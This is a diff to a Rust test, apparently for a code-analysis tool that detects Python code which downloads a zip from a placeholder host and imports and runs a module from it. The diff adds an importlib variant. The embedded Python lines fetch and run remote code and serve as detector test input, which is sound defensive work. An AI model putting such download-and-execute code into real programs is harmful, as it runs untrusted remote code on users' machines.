@@ -275,12 +275,18 @@ fn fields_of_a_class_become_its_constructor() {
 
 #[test]
 fn modules_that_are_imported_out_of_a_download_are_run() {
-    let code = |place: &str| {
+    let imported = |place: &str, import: &str| {
         format!(
-            "import sys, urllib.request\nurllib.request.urlretrieve('https://h.invalid/pack.zip', '/tmp/pack.zip')\n\
-             sys.path.insert(0, '{place}')\nimport pack_of_themes\npack_of_themes.register()\n"
+            "import importlib, sys, urllib.request\nurllib.request.urlretrieve('https://h.invalid/pack.zip', '/tmp/pack.zip')\n\
+             sys.path.insert(0, '{place}')\n{import}\n"
         )
     };
+    has(
+        Language::Python,
+        &imported("/tmp/pack.zip", "importlib.import_module('pack').register()"),
+        "flow-download-run",
+    );
+    let code = |place: &str| imported(place, "import pack_of_themes\npack_of_themes.register()");
     has(Language::Python, &code("/tmp/pack.zip"), "flow-download-run");
     has_not(Language::Python, &code("/opt/plugins"), "flow-download-run");
 }
